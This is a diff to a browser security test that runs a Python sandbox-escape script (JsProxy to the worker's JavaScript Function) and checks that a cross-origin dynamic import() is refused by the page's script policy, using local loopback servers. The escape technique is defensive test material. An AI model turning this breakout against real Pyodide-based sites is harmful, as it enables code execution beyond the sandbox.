@@ -31,6 +31,15 @@ if (!worker) {
 const esbuild = createRequire(import.meta.url)('esbuild');
 const syncAnswerModule = esbuild.buildSync({ entryPoints: [path.join(root, 'src/sandbox/syncAnswer.ts')], bundle: true, format: 'esm', write: false }).outputFiles[0].text;
 
+/** How the site starts its Python worker: under the page's script policy (src/ui/workerUnderPagePolicy.ts). */
+const policyWorkerModule = esbuild.buildSync({ entryPoints: [path.join(root, 'src/ui/workerUnderPagePolicy.ts')], bundle: true, format: 'esm', write: false }).outputFiles[0].text;
+/** The built page's script policy (its meta tag), which the probe page carries too. */
+const policyMeta = (await readFile(path.join(dist, 'index.html'), 'utf8')).match(/<meta http-equiv="Content-Security-Policy"[^>]*>/)?.[0];
+if (!policyMeta) {
+  console.error('dist/index.html has no Content-Security-Policy meta tag');
+  process.exit(1);
+}
+
 /** The globals the worker's lockdown keeps (src/sandbox/python/pythonRealm.ts), bundled for this check. */
 const realm = esbuild.buildSync({ entryPoints: [path.join(root, 'src/sandbox/python/pythonRealm.ts')], bundle: true, format: 'esm', write: false }).outputFiles[0].text;
 const { COMPUTATION_GLOBALS } = await import(`data:text/javascript;base64,${Buffer.from(realm).toString('base64')}`);
@@ -39,7 +48,8 @@ const { COMPUTATION_GLOBALS } = await import(`data:text/javascript;base64,${Buff
  * Issue 31: a script that breaks out of Python into its worker's JavaScript (a JsProxy held in a closure of
  * requests; its constructor.constructor is that realm's Function) and tries the page's powers. Each try does
  * something this server or the probe page would see if it got through: a request under __escape/, a message on the
- * worker or a BroadcastChannel. __HOST__ is the probe's host.
+ * worker or a BroadcastChannel, a request to a second loopback server (another origin, like any host other than the
+ * replicas). __HOST__ is the probe's host, __OTHER__ the second server's.
  */
 const ESCAPE = `
 import json, requests.adapters
@@ -104,15 +114,20 @@ for (let t = g; t && t !== Object.prototype && t !== EventTarget.prototype; t = 
   for (const name of Object.getOwnPropertyNames(t)) if (name !== 'constructor' && g[name] !== undefined) left.add(name);
 }
 tries.globals = [...left].sort();
-// Dynamic import() fetches a module: a module worker offers no switch for it.
+// Dynamic import() fetches a module: no script API turns it off; the page's script policy, which the worker
+// inherits, must refuse another origin's. The module is only on that server: it cannot load without a request there.
+import('http://__OTHER__/import.js').catch(() => {});
 import(base + 'import.js').catch(() => {});
 return JSON.stringify(tries);
 `)})())
 `;
 
 // The probe: plain JavaScript in the page, the site's worker chunk, and the result posted back to this server.
-const probe = `<!doctype html><meta charset="utf-8"><title>python probe</title><pre id="out">running</pre><script type="module">
+// The page carries the site's script policy, so its own script is a file of the site, as the site's are.
+const probe = `<!doctype html><meta charset="utf-8">${policyMeta}<title>python probe</title><pre id="out">running</pre><script type="module" src="probe.js"></script>`;
+const probeScript = `
 import { newSyncBuffer, writeSyncAnswer } from './syncAnswer.js';
+import { workerUnderPagePolicy } from './workerUnderPagePolicy.js';
 const workerUrl = new URL('assets/${worker}', location.href);
 const source = ${JSON.stringify(`
 import requests, json, datetime, time
@@ -139,7 +154,7 @@ for name in ('pyodide.ffi', 'pyodide.http', 'pyodide_js'):
 print(json.dumps({'closed': closed, 'hashRandomization': sys.flags.hash_randomization, 'hash': hash('difflab')}))
 `)};
 function start() {
-  const worker = new Worker(workerUrl, { type: 'module' });
+  const worker = workerUnderPagePolicy(workerUrl, 'difflab-python');
   const channel = new MessageChannel();
   worker.postMessage({ port: channel.port2 }, [channel.port2]);
   return { worker, port: channel.port1, created: performance.now() };
@@ -199,12 +214,12 @@ const warm = await run(spare, 'warm');
 const heard = [];
 const listener = new BroadcastChannel('difflab-escape');
 listener.onmessage = ({ data }) => heard.push(String(data));
-const escape = await run(start(), 'escape', undefined, ${JSON.stringify(ESCAPE)}.replaceAll('__HOST__', location.host), 3000);
+const escape = await run(start(), 'escape', undefined, ${JSON.stringify(ESCAPE)}.replaceAll('__HOST__', location.host).replaceAll('__OTHER__', '__OTHER_HOST__'), 3000);
 escape.broadcast = heard;
 const result = { escape, userAgent: navigator.userAgent, jspi: typeof WebAssembly.Suspending === 'function', isolated: self.crossOriginIsolated, cold, warm, roundTripMs: median(warm.fetchGaps.slice(10)), coldStartMs: cold.createdToStarted, nextStartMs: warm.postedToStarted };
 document.getElementById('out').textContent = JSON.stringify(result, null, 2);
 await fetch('__result', { method: 'POST', body: JSON.stringify(result) });
-</script>`;
+`;
 
 const types = { '.js': 'text/javascript', '.mjs': 'text/javascript', '.wasm': 'application/wasm', '.json': 'application/json', '.zip': 'application/zip', '.html': 'text/html', '.css': 'text/css', '.ttf': 'font/ttf' };
 let deliver = () => {};
@@ -223,6 +238,8 @@ const server = createServer(async (req, res) => {
     return void res.writeHead(404).end();
   }
   if (rel === 'probe.html') return void res.writeHead(200, { 'Content-Type': 'text/html' }).end(probe);
+  if (rel === 'probe.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(probeScript.replace('__OTHER_HOST__', otherHost));
+  if (rel === 'workerUnderPagePolicy.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(policyWorkerModule);
   if (rel === 'syncAnswer.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(syncAnswerModule);
   if (rel === '__result') {
     const chunks = [];
@@ -241,6 +258,14 @@ const server = createServer(async (req, res) => {
   }
 });
 await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+/** Another origin on this machine that serves any module to anyone (CORS): what the escape script's import() tries. */
+const otherRequests = [];
+const other = createServer((req, res) => {
+  otherRequests.push(req.url);
+  res.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' }).end('export const reached = true;');
+});
+await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
+const otherHost = `127.0.0.1:${other.address().port}`;
 const probeUrl = `http://127.0.0.1:${server.address().port}${BASE}probe.html`;
 const nextResult = (ms) =>
   new Promise((resolve, reject) => {
@@ -343,6 +368,8 @@ function escapeProblems(escape, name) {
   if (extra.length) problems.push(`escape: globals left beyond the computation ones: ${extra.join(' ')}`);
   if (escape.toPage.length) problems.push(`escape: the worker posted to the page: ${escape.toPage.join(' ')}`);
   if (escape.broadcast.length) problems.push(`escape: a BroadcastChannel message reached the page: ${escape.broadcast.join(' ')}`);
+  const elsewhere = otherRequests.splice(0);
+  if (elsewhere.length) problems.push(`escape: import() reached another origin: ${elsewhere.join(' ')}`);
   const requests = escapes.splice(0);
   if (requests.includes('__escape/import.js')) importsReached.add(name);
   const reached = requests.filter((rel) => rel !== '__escape/import.js');
@@ -389,11 +416,12 @@ for (const [name, profile] of Object.entries(PROFILES)) {
   }
 }
 const outside = misses.filter((m) => m !== '/favicon.ico');
-// Known and not closed (issue 31's report): a module worker's import() can fetch a module by URL.
-if (importsReached.size) console.log(`  note: the page worker's dynamic import() reached this server in ${[...importsReached].join(', ')} (not closed: see docs/incoming/31.md)`);
+// Allowed by the policy's 'self' (issue 31's report): a module worker's import() can fetch a module of the site's own origin.
+if (importsReached.size) console.log(`  note: the page worker's dynamic import() of a module of the site's own origin reached this server in ${[...importsReached].join(', ')} (see docs/incoming/31.md)`);
 if (outside.length) {
   console.log(`✗ requests outside ${BASE} or missing: ${[...new Set(outside)].join(', ')}`);
   failed++;
 }
 server.close();
+other.close();
 process.exit(failed ? 1 : 0);
